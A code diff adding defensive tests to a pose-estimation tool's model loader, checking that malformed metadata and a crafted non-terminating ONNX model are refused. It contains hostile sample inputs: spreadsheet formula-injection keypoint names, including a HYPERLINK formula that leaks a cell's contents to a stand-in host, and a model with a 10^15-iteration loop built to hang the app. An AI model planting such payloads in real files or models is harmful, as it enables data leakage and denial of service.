@@ -66,6 +66,16 @@ def test_metadata_that_would_be_read_as_something_else_is_refused(coco_metadata)
             "flip_map is not a list of whole",
         ),
         ("trained", "True", "trained is neither true nor false"),
+        # a crafted model's names became spreadsheet formulas in every CSV header, or split it over two lines
+        (
+            "keypoint_names",
+            json.dumps(['=HYPERLINK("http://x/?"&B2,"nose")', *[f"j{i}" for i in range(16)]]),
+            "the keypoint name '=HYPERLINK",
+        ),
+        ("keypoint_names", json.dumps(["nose\nx", *[f"j{i}" for i in range(16)]]), "the keypoint name 'nose\\\\nx'"),
+        ("keypoint_names", json.dumps(["@SUM(1+1)", *[f"j{i}" for i in range(16)]]), "the keypoint name '@SUM"),
+        ("oks_sigmas", "[" + "0.1, " * 16 + "1" + "0" * 400 + "]", "oks_sigmas is not a list of finite numbers"),
+        ("skeleton", "[" * 100_000, "skeleton is not JSON"),
     ):
         with pytest.raises(WLitePoseError, match=f"malformed WLitePose metadata \\({message}"):
             parse_metadata({**coco_metadata, key: value}, "m.onnx")
@@ -120,3 +130,50 @@ def test_a_model_that_takes_one_image_size_only_is_refused_at_load(tmp_path, mod
     onnx.save(proto, str(tmp_path / "fixed.onnx"))
     with pytest.raises(WLitePoseError, match="takes only 256x256 images; export it with a dynamic height and width"):
         PoseModel(tmp_path / "fixed.onnx")
+
+
+def test_a_network_that_never_finishes_is_refused_at_load_not_a_hang(tmp_path, model_path, monkeypatch):
+    """A crafted model looping 10^15 times hung `track` (Ctrl-C and all) and left the app unable to close."""
+    onnx = pytest.importorskip("onnx")
+    from onnx import TensorProto, helper, numpy_helper
+
+    import core.session
+
+    model = onnx.load(str(model_path))
+    graph = model.graph
+    body = helper.make_graph(
+        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Add", ["x", "one"], ["x_out"])],
+        "spin",
+        [
+            helper.make_tensor_value_info("i", TensorProto.INT64, []),
+            helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
+            helper.make_tensor_value_info("x", TensorProto.FLOAT, [1]),
+        ],
+        [
+            helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
+            helper.make_tensor_value_info("x_out", TensorProto.FLOAT, [1]),
+        ],
+        [numpy_helper.from_array(np.ones(1, np.float32), "one")],
+    )
+    graph.initializer.extend(
+        [
+            numpy_helper.from_array(np.array(10**15, np.int64), "spins"),
+            numpy_helper.from_array(np.array(True), "go"),
+            numpy_helper.from_array(np.zeros(1, np.float32), "x0"),
+            numpy_helper.from_array(np.zeros(1, np.float32), "nought"),
+        ]
+    )
+    last = next(node for node in graph.node if "heatmaps" in node.output)
+    last.output[0] = "heatmaps_before"
+    graph.node.extend(
+        [
+            helper.make_node("Loop", ["spins", "go", "x0"], ["x_end"], body=body),
+            helper.make_node("Mul", ["x_end", "nought"], ["no_change"]),
+            helper.make_node("Add", ["heatmaps_before", "no_change"], ["heatmaps"]),
+        ]
+    )
+    slow = tmp_path / "spins.onnx"
+    onnx.save(model, str(slow))
+    monkeypatch.setattr(core.session, "LOAD_CHECK_S", 1.0)
+    with pytest.raises(WLitePoseError, match=r"spins.onnx did not finish one blank 256x288 input in 1 s$"):
+        PoseModel(slow)
